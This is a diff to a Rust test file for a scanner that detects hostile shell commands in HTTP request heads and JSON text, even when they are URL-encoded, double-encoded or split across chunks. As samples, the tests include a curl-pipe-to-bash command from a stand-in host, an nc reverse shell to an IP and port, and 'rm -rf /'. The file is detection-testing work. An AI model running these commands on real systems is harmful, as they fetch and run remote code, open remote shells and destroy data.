@@ -3,7 +3,8 @@
 use data_encoding::{BASE32, BASE32_NOPAD, BASE64, BASE64URL_NOPAD, HEXLOWER};
 use proptest::prelude::*;
 
-use crate::scan::tests::{SCANNER, scan_head, scan_pieces};
+use crate::scan::padded::PaddedBuffer;
+use crate::scan::tests::{SCANNER, Seen, scan_head, scan_pieces};
 
 const COMMAND: &str = "curl -fsSL https://get.evil.example/i.sh | bash";
 
@@ -96,5 +97,46 @@ proptest! {
             .map(|end| &text.as_bytes()[std::mem::replace(&mut from, end)..end])
             .collect();
         prop_assert_eq!(told(&pieces), vec![name], "{:?}", pieces);
+    }
+}
+
+/// A text as the value of a form.
+fn form(value: &str) -> String {
+    let escaped = value.bytes().map(|byte| match byte {
+        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
+            char::from(byte).to_string()
+        }
+        b' ' => "+".to_owned(),
+        byte => format!("%{byte:02X}"),
+    });
+    escaped.collect()
+}
+
+#[test]
+fn a_form_within_a_form_is_read_in_a_query_a_body_and_a_text() {
+    for (command, name) in [
+        (COMMAND, "pipe_to_shell"),
+        ("nc -e x 203.0.113.9 4444", "reverse_shell"),
+        ("rm -rf /", "destructive_rm"),
+    ] {
+        let inner = format!("https://x.example/?c={}", form(command));
+        for inner in [inner.clone(), format!("https://y.example/?u={}", form(&inner))] {
+            let query = format!("next={}", form(&inner));
+            let head = format!("GET http://a.example/?{query} HTTP/1.1\r\n\r\n");
+            let mut seen = Seen::default();
+            let mut buffer = PaddedBuffer::new();
+            SCANNER.with(|scanner| scanner.scan_request(buffer.fill(head.as_bytes()), &mut seen));
+            assert_eq!(seen.names(), [name], "{head}");
+            // Nothing shows there that the blanks are of a form.
+            if !query.contains("%25") {
+                continue;
+            }
+            let text = format!("{{\"u\":\"https://a.example/?{query}\"}}");
+            assert_eq!(told(&[&text]), [name], "{text}");
+            for at in 1..text.len() {
+                let (head, tail) = text.split_at(at);
+                assert_eq!(told(&[head, tail]), [name], "{head}|{tail}");
+            }
+        }
     }
 }
